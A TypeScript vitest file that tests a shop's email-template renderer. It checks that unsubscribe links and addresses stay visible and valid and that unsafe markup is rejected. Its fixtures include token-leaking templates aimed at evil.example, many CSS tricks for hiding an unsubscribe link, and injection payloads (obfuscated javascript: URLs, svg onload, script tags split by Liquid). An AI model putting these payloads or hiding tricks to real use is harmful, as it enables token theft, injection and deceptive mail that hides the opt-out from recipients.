import { expect, test } from 'vitest';
import { openToken } from '../../functions/email/links/link-token.ts';
import type { Mail } from '../../functions/email/render/render-mail.ts';
import type { TemplateVersion } from '../../functions/email/template.ts';
import { customer, keys, shop } from '../tracking/shop-and-customer.ts';
import { compiled, mailOf, mjmlWith, sourceOf } from './sample-mails.ts';

const FOOTER = 'You get this mail because you agreed to hear from Corner Coffee.';
const LEAVE = '<a href="{{ unsubscribeUrl }}">Leave</a>';
const ADDRESS = '{{ shop.name }}, {{ shop.postalAddress }}';

/** The links to leave by in a part of a mail; each must be good. */
const waysOut = async (part: string): Promise<string[]> => {
  const links = Array.from(
    part.matchAll(/https:\/\/mail\.example\.com\/u\/([\w.-]+)/g),
    ([, token = '']) => token,
  );
  for (const token of links) {
    expect(await openToken(token, 'u', async () => [keys.linkKey])).toMatchObject({ campaignId: 'cmp_1' });
  }
  return links;
};

const expectWayOut = async ({ html, text }: Mail): Promise<void> => {
  expect((await waysOut(html)).length).toBeGreaterThan(0);
  expect((await waysOut(text)).length).toBeGreaterThan(0);
  for (const part of [html, text]) expect(part).toContain('12 Mill Lane, Berlin');
  expect(html).not.toMatch(/[\uE000-\uE002]/);
  expect(text).not.toMatch(/[\uE000-\uE002]/);
};

test.each([
  ['the sample of a campaign', 'campaign.id == "sample"'],
  ['the sample of a shop', 'shop.name == "The Shop"'],
  ['the sample of a customer', 'customer.lastName == "Berg"'],
])('a way out that only %s gets is added for the others', async (_, condition) => {
  const body = `<mj-text>{% if ${condition} %}${LEAVE} ${ADDRESS}{% endif %}</mj-text>`;
  const mail = await mailOf(await compiled(sourceOf(body)), { customer: { ...customer, lastName: 'Other' } });
  await expectWayOut(mail);
  expect(mail.html).toContain(FOOTER);
});

const inText = (body: string) => sourceOf(`<mj-text>${body}</mj-text>`);
const HIDING: [string, string][] = [
  ['display', `<div style="display:none">${LEAVE} ${ADDRESS}</div>`],
  ['visibility', `<span style="visibility: hidden">${LEAVE} ${ADDRESS}</span>`],
  ['opacity', `<div style="opacity:0">${LEAVE} ${ADDRESS}</div>`],
  ['a size of nothing', `<div style="font-size:0px">${LEAVE} ${ADDRESS}</div>`],
  ['a size in a short form', `<div style="font:0/0 a">${LEAVE} ${ADDRESS}</div>`],
  ['a box of nothing', `<div style="max-height:0;overflow:hidden">${LEAVE} ${ADDRESS}</div>`],
  ['Outlook', `<div style="mso-hide:all">${LEAVE} ${ADDRESS}</div>`],
  ['a place off the screen', `<div style="position:absolute;left:-9999px">${LEAVE} ${ADDRESS}</div>`],
  ['an indent', `<div style="text-indent:-9999px">${LEAVE} ${ADDRESS}</div>`],
  ['clipping', `<div style="clip-path: inset(100%)">${LEAVE} ${ADDRESS}</div>`],
  [
    'the colour of nothing',
    `<div style="color:transparent"><a style="color:transparent" href="{{ unsubscribeUrl }}">Leave</a> ${ADDRESS}</div>`,
  ],
  [
    'its background',
    `<div style="color:#FFF;background:white"><a style="color:#fefefe" href="{{ unsubscribeUrl }}">Leave</a> ${ADDRESS}</div>`,
  ],
  ['an attribute', `<div hidden>${LEAVE} ${ADDRESS}</div>`],
  ['no text', `<a href="{{ unsubscribeUrl }}"></a> <a href="{{ unsubscribeUrl }}">&zwnj;&nbsp;</a>`],
  ['a comment for Outlook', `<!--[if mso]>${LEAVE} ${ADDRESS}<![endif]-->`],
  ['a comment for all but Outlook', `<!--[if !mso]><!-->${LEAVE} ${ADDRESS}<!--<![endif]-->`],
  ['a class', `<style>.gone { display: none !important }</style><p class="a gone">${LEAVE} ${ADDRESS}</p>`],
  [
    'a class on small screens',
    `<style>@media (max-width: 480px) { td .gone { display: none } }</style><p class="gone">${LEAVE} ${ADDRESS}</p>`,
  ],
  [
    'a class that paints it white',
    `<style>.gone, .gone a { color: #ffffff }</style><p class="gone">${LEAVE} ${ADDRESS}</p>`,
  ],
];

test.each(HIDING)('a way out that %s hides is none', async (_, body) => {
  const mail = await mailOf(await compiled(inText(body)));
  await expectWayOut(mail);
  expect(mail.html).toContain(FOOTER);
});

test.each([
  ['a paragraph', `<p>${ADDRESS}</p><p>${LEAVE}</p>`],
  [
    'an address in lines',
    `<p>12 Mill Lane<br />Berlin</p><p><a href=" {{- unsubscribeUrl -}} "><b>Leave</b></a></p>`,
  ],
  [
    'small grey letters',
    `<p style="font-size:10px;color:#888888">${ADDRESS} <a style="color:#888888" href="{{ unsubscribeUrl }}">x</a></p>`,
  ],
  [
    'dark print',
    `<div style="background-color:#222222;color:#eeeeee">${ADDRESS} <a style="color:#ffffff" href="{{ unsubscribeUrl }}">Leave</a></div>`,
  ],
])('a way out in %s is enough', async (_, body) => {
  const { html } = await mailOf(await compiled(inText(body)));
  expect((await waysOut(html)).length).toBe(1);
});

test('a style that hides every footer is refused, for one mail as at once', async () => {
  const hidden = inText('<style>div { display: none }</style>a');
  await expect(compiled(hidden)).rejects.toMatchObject({ code: 'invalid_template' });
  const forEve = inText(
    '{% if customer.firstName == "Eve" %}<style>div { display: none }</style>{% endif %}a',
  );
  const template = await compiled(forEve);
  await expectWayOut(await mailOf(template));
  await expect(mailOf(template, { customer: { ...customer, firstName: 'Eve' } })).rejects.toMatchObject({
    code: 'content_not_allowed',
    reason: expect.stringContaining('cannot be seen'),
  });
});

/** As saved before its links were checked. */
const older = async (body: string): Promise<TemplateVersion> => {
  const template = await compiled(inText('PLACE'));
  const old = (part: string) => part.replace('PLACE', body);
  return { ...template, html: old(template.html), text: old(template.text) };
};

test.each([
  ['part of an address', '<a href="{{ unsubscribeUrl }}x">Leave</a>'],
  ['the query of another site', '<a href="https://evil.example/?u={{ unsubscribeUrl }}">Leave</a>'],
  ['a picture', '<img src="https://evil.example/{{ unsubscribeUrl | url_encode }}">'],
  ['a text', '{{ unsubscribeUrl | slice: 0, 99 | upcase | append: "." }}'],
  [
    'a capture',
    '{% capture u %}https://evil.example/{{ unsubscribeUrl }}{% endcapture %}<a href="{{ u }}">a</a>',
  ],
  ['a click on another site', 'https://evil.example/?{{ "https://shop.example" | click }}'],
])('a template of before leaks no token in %s', async (_, body) => {
  const { html, text } = await mailOf(await older(body));
  expect(await waysOut(html)).toHaveLength(1);
  expect(await waysOut(text)).toHaveLength(1);
  expect(html + text).not.toMatch(/evil\.example\/[^"\s]*mail/i);
});

test('the address of a shop that is not of its template is added', async () => {
  const template = await compiled(inText(`1 Sample Street ${LEAVE}`));
  const { html, text } = await mailOf(template, { shop: { ...shop, postalAddress: '1 Other Road\nRome' } });
  for (const part of [html, text]) expect(part).toContain('1 Other Road, Rome');
});

test.each([
  ['a script', '<{{ "script" }}>a</{{ "script" }}>'],
  ['an event', '<b onmouseover="a">b</b>'],
  ['a frame', '<iframe src="https://a.example"></iframe>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://a.example">'],
  ['a form', '<form action="https://a.example"><input type="submit"></form>'],
  ['a base', '<base href="https://a.example">'],
  ['a script address', '<a href="java&#x73;cript:a">b</a>'],
  ['a page as an address', '<a href="data:text/html,a">b</a>'],
  ['a picture that runs', '<svg onload="a"></svg>'],
  ['a script for Outlook', '<!--[if mso]><script>a</script><![endif]-->'],
  ['a style from elsewhere', '<style>@import "https://a.example/a.css";</style>'],
  ['half an element', '<div>'],
  ['a link in a link', '<a href="https://a.example">b <b><a href="https://a.example">c</a></b></a>'],
])('a mail that holds %s for one customer is not made for this one', async (_, body) => {
  const template = await older(`{% if customer.firstName == "Eve" %}${body}{% endif %}`);
  await expectWayOut(await mailOf(template));
  await expect(mailOf(template, { customer: { ...customer, firstName: 'Eve' } })).rejects.toMatchObject({
    name: 'RenderError',
    code: 'content_not_allowed',
  });
});

const forEve = (body: string) => inText(`{% if customer.firstName == "Eve" %}${body}{% endif %}`);
const grow = `{% assign a = "aaaaaaaa" %}${'{% assign a = a | append: a %}'.repeat(13)}`;

test.each([
  ['too_many_steps', '{% for i in (1..90000) %}x{% endfor %}', 'more than 100000 steps'],
  ['too_many_steps', `${grow}{{ a | split: "" | sort | uniq | size }}`, 'more than 100000 steps'],
  ['liquid_error', '{{ "?" | base64_decode }}', 'Liquid: invalid base64'],
  ['mail_too_large', `{% for i in (1..2000) %}${'long '.repeat(60)}{% endfor %}`, 'of at most 500000'],
  ['mail_too_large', '{% for i in (1..11000) %}<b>a</b>{% endfor %}', 'more than 10000 elements'],
])('a mail is refused as %s for the one customer whose name makes it so', async (code, body, reason) => {
  const template = await compiled(forEve(body));
  await expectWayOut(await mailOf(template));
  const render = () => mailOf(template, { customer: { ...customer, firstName: 'Eve' } });
  await expect(render()).rejects.toMatchObject({ code, reason: expect.stringContaining(reason) });
  await expect(render()).rejects.not.toThrow('Eve"');
});

test('a tag that Liquid parts is refused at once, also where only Outlook reads it', async () => {
  for (const body of [
    '<scr{% if true %}ipt{% endif %}>',
    '<{{ "script" }}>',
    '<!--[if mso]><scr{% if true %}ipt>a</script><![endif]-->',
  ]) {
    await expect(
      compiled({ ...inText('a'), mjml: mjmlWith(`<mj-text>${body}</mj-text>`) }),
    ).rejects.toMatchObject({
      code: 'invalid_template',
    });
  }
});
